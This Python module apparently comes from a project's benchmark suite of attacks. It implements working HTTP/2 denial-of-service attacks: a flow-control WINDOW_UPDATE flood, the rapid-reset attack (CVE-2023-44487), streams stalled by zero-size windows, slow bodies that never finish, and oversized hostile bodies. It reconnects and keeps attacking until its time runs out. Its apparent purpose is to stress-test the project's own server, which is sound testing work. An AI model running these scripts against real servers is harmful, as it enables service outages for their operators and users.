"""One HTTP/2 connection with prior knowledge that does what the protocol allows, but far too often.

Where the server closes the connection, a new one goes on until the time is over.
"""

import select
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Final

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import ProtocolError
from h2.settings import SettingCodes

from scripts.benchmarks.attacks.aim import HOST, Aim, Clock, Outcome, Run
from scripts.benchmarks.attacks.protocols import Hostile

STREAMS: Final = 900
FRAMES: Final = 5000  # in one write
RESETS: Final = 500  # in one write; each needs two frames of its own
BODY_STREAMS: Final = 64
PIECE: Final = 65536
FRAME: Final = 16384  # bytes: the largest DATA frame that a server must take
PAUSE_SECONDS: Final = 0.01
POLL_SECONDS: Final = 0.1

Script = Callable[[Aim, H2Connection], Iterator[bytes]]  # what to send, write by write


def opened(aim: Aim, connection: H2Connection, count: int) -> list[int]:
    """Open streams that announce a body; return their numbers."""
    streams = [2 * index + 1 for index in range(count)]
    for stream in streams:
        connection.send_headers(stream, _headers(aim))
    return streams


def window_updates(aim: Aim, connection: H2Connection) -> Iterator[bytes]:
    """Widen the connection's window by one byte, again and again, while many streams are open (RFC 9113, 6.9)."""
    opened(aim, connection, STREAMS)
    yield connection.data_to_send()
    connection.increment_flow_control_window(1)
    many = connection.data_to_send() * FRAMES  # h2 would need longer to make each than a server to read it
    while True:
        yield many


def rapid_resets(aim: Aim, connection: H2Connection) -> Iterator[bytes]:
    """Open a stream and reset it at once, over and over (CVE-2023-44487)."""
    stream = 1
    while True:
        for _ in range(RESETS):
            connection.send_headers(stream, _headers(aim), end_stream=True)
            connection.reset_stream(stream)
            stream += 2
        yield connection.data_to_send()


def unread(aim: Aim, connection: H2Connection) -> Iterator[bytes]:
    """Send requests on many streams whose flow-control windows stay closed, so that no answer can be sent."""
    connection.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for index in range(STREAMS):
        connection.send_headers(2 * index + 1, _headers(aim, method="GET", path="/openapi.json"), end_stream=True)
    while True:
        yield connection.data_to_send()
        time.sleep(PAUSE_SECONDS)


def bodies(aim: Aim, connection: H2Connection) -> Iterator[bytes]:
    """Send many bodies of the largest size at once, each without its last byte."""
    left = dict.fromkeys(opened(aim, connection, BODY_STREAMS), aim.limit - 1)
    while True:
        for stream in left:
            with suppress(ProtocolError):  # the server has reset it
                size = min(FRAME, left[stream], connection.local_flow_control_window(stream))
                if size > 0:
                    connection.send_data(stream, b" " * size)
                    left[stream] -= size
        yield connection.data_to_send()


def whole(hostile: Hostile) -> Script:
    """Send the body of one request as fast as the windows allow, and wait until it is answered."""

    def script(aim: Aim, connection: H2Connection) -> Iterator[bytes]:
        left = memoryview(hostile.body(aim.limit))
        connection.send_headers(1, _headers(aim, path=aim.at(hostile.path), kind=hostile.content_type))
        while connection.open_outbound_streams:
            while left and (size := min(FRAME, len(left), connection.local_flow_control_window(1))) > 0:
                connection.send_data(1, left[:size], end_stream=size == len(left))
                left = left[size:]
            yield connection.data_to_send()
            time.sleep(PAUSE_SECONDS if not left else 0)

    return script


def over_http2(script: Script) -> Callable[[Aim], Run]:
    """The attack that follows a script until its time is over."""

    def prepare(aim: Aim) -> Run:
        def run() -> Outcome:
            clock = Clock(aim.seconds)
            outcome: Outcome = Counter()
            while clock.runs():
                outcome[once(aim, script, clock)] += 1
                time.sleep(PAUSE_SECONDS)
            return outcome

        return run

    return prepare


def once(aim: Aim, script: Script, clock: Clock) -> str:
    """Follow a script over one connection; return how it ended."""
    connection = H2Connection(H2Configuration(client_side=True, validate_outbound_headers=False))
    connection.initiate_connection()
    try:
        with aim.connect() as link:
            link.settimeout(0)
            for data in script(aim, connection):
                deliver(link, connection, data, clock)
                if not clock.runs():
                    return "open"
    except (ProtocolError, OSError):  # after GOAWAY, h2 refuses to send
        return "closed"
    return "done"


def deliver(link: socket.socket, connection: H2Connection, data: bytes, clock: Clock) -> None:
    """Send all of it, and read what the server sends meanwhile. Raises OSError where it closes the connection."""
    left = memoryview(data)
    while clock.runs():
        readable, writable, _ = select.select([link], [link] if left else [], [], 0 if not left else POLL_SECONDS)
        if readable:
            received = link.recv(PIECE)
            if not received:
                raise ConnectionResetError
            connection.receive_data(received)
        elif not left:
            return
        if writable:
            left = left[link.send(left) :]


def _headers(
    aim: Aim, *, method: str = "POST", path: str | None = None, kind: str = "application/json"
) -> list[tuple[str, str]]:
    return [
        (":method", method),
        (":scheme", "http"),
        (":authority", f"{HOST}:{aim.port}"),
        (":path", path or aim.path),
        ("content-type", kind),
        ("te", "trailers"),
    ]
